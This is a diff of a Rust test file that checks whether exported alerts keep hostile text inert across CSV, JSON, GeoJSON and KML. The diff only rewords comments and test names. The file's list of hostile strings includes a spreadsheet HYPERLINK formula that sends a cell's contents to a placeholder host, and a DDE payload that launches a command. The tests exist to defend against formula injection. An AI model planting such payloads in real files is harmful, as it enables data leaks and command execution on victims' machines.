@@ -1,6 +1,6 @@
 //! Exported alerts as other programs read them: hostile texts stay texts, coordinates stay on the globe, nothing is lost.
 //!
-//! With `ATALAIA_WITNESS_PYTHON` (see `tests/run`) Python's own readers and GDAL read the same files and must see the same.
+//! With `ATALAIA_WITNESS_PYTHON` (see `tests/run`) Python's own readers and GDAL read the same files and must get the same content.
 
 use std::fs;
 use std::path::Path;
@@ -20,7 +20,7 @@ use xml::Element;
 
 mod xml;
 
-/// What somebody who means ill may send or write.
+/// Texts that an attacker may send or write.
 const HOSTILE: [&str; 14] = [
     "=HYPERLINK(\"http://x.example/?\"&A1,\"ALFA\")",
     "+1+cmd|' /C calc'!A0",
@@ -44,7 +44,7 @@ fn text(format: Format, alerts: &[Value]) -> String {
     String::from_utf8(out).unwrap()
 }
 
-/// How each alert of a meeting on the antimeridian was last told, facts too, the ships under hostile names.
+/// The last line of each alert of a meeting on the antimeridian, facts included, with hostile ship names.
 static STORED: LazyLock<Vec<Value>> = LazyLock::new(|| {
     let (lat, lon) = scenes::MIDDLE;
     let (from_lat, from_lon) = away(lat, lon, 270.0, 36.0);
@@ -84,7 +84,7 @@ fn looked_at() -> Vec<Value> {
     let lines = fs::read_to_string("tests/exports/alerts.jsonl").unwrap();
     let alert = |line| {
         let mut alert: Value = serde_json::from_str(line).unwrap();
-        // What was written is what is read: the file's own marking stands in it.
+        // The alert must read back as stored, apart from the file's own marking.
         alert.as_object_mut().unwrap().shift_remove("file_tlp").unwrap();
         alert
     };
@@ -101,7 +101,7 @@ fn spoilt(value: &Value, said: &str) -> Value {
     }
 }
 
-/// All of them, and each with every hostile text everywhere.
+/// All alerts, and each of them with every hostile text in all places.
 fn all() -> Vec<Value> {
     let mut alerts = STORED.clone();
     alerts.extend(looked_at());
@@ -135,7 +135,7 @@ fn rows(text: &str, separator: u8) -> Vec<Vec<String>> {
     }
 }
 
-/// Folder by folder.
+/// All placemarks, folder by folder.
 fn placemarks(kml: &Element) -> Vec<&Element> {
     let document = kml.child("Document").unwrap();
     document.all("Folder").flat_map(|folder| folder.all("Placemark")).collect()
@@ -154,7 +154,7 @@ fn tracks(alert: &Value) -> usize {
 }
 
 #[test]
-fn the_files_are_those_that_were_looked_at() {
+fn the_files_match_the_reviewed_ones() {
     let alerts = looked_at();
     for format in Format::ALL {
         let path = format!("tests/exports/alerts.{format}");
@@ -167,14 +167,14 @@ fn the_files_are_those_that_were_looked_at() {
 }
 
 #[test]
-fn json_lines_are_the_alerts_as_they_are_stored() {
+fn json_lines_are_the_alerts_as_stored() {
     let alerts = all();
     let lines = text(Format::Jsonl, &alerts);
     let read: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
     let unmarked: Vec<Value> = read
         .into_iter()
         .map(|mut alert| {
-            // A text of the file's own, before the alert's.
+            // The file's own marking, before the alert's fields.
             assert_eq!(alert.as_object_mut().unwrap().shift_remove("file_tlp"), Some("TLP:RED".into()));
             alert
         })
@@ -200,14 +200,14 @@ fn no_cell_of_a_spreadsheet_is_a_formula() {
             assert!(!cell.contains(is_hidden), "{column}: {cell:?}");
         }
     }
-    // Where a comma is the decimal sign, a spreadsheet cuts at semicolons.
+    // In locales with a decimal comma, spreadsheets split at semicolons.
     let cut: Vec<String> = rows(&csv, b';').into_iter().flatten().collect();
     let formula = cut.iter().find(|cell| begins_a_formula(cell));
     assert!(alerts.len() < cut.len() && formula.is_none(), "{formula:?}");
 }
 
 #[test]
-fn a_map_gets_a_point_an_alert_and_a_line_a_track() {
+fn a_map_gets_a_point_per_alert_and_a_line_per_track() {
     let alerts = all();
     let features = collection(&text(Format::GeoJson, &alerts)).features;
     assert_eq!(features.len(), alerts.len() + alerts.iter().map(tracks).sum::<usize>());
@@ -235,7 +235,7 @@ fn a_map_gets_a_point_an_alert_and_a_line_a_track() {
 }
 
 #[test]
-fn a_globe_finds_no_markup_in_a_text() {
+fn a_globe_finds_no_markup_in_texts() {
     let alerts = all();
     let kml = xml::read(&text(Format::Kml, &alerts)).unwrap();
     let placemarks = placemarks(&kml);
@@ -269,7 +269,7 @@ fn a_globe_finds_no_markup_in_a_text() {
 }
 
 #[test]
-fn other_programs_read_what_we_read() {
+fn other_programs_read_the_same_content() {
     let Some(python) = installed("ATALAIA_WITNESS_PYTHON") else { return };
     let (folder, alerts) = (TempDir::new().unwrap(), all());
     for format in Format::ALL {
@@ -306,7 +306,7 @@ fn other_programs_read_what_we_read() {
     }
 }
 
-/// Name and kind of geometry, as GDAL tells them.
+/// Name and kind of geometry, as GDAL reports them.
 fn named(placemark: &Element) -> Value {
     let kind = placemark.children.last().map(|last| match last.name.as_str() {
         "MultiGeometry" => "MultiLineString",
@@ -319,7 +319,7 @@ fn collection(text: &str) -> geojson::FeatureCollection {
     text.parse::<geojson::GeoJson>().unwrap().try_into().unwrap()
 }
 
-/// The places of a geometry, part by part.
+/// The positions of a geometry, part by part.
 fn lines(shape: &Value) -> Vec<Vec<(f64, f64)>> {
     let read = |places: &Value| serde_json::from_value::<Vec<(f64, f64)>>(places.clone()).unwrap();
     let places = &shape["coordinates"];
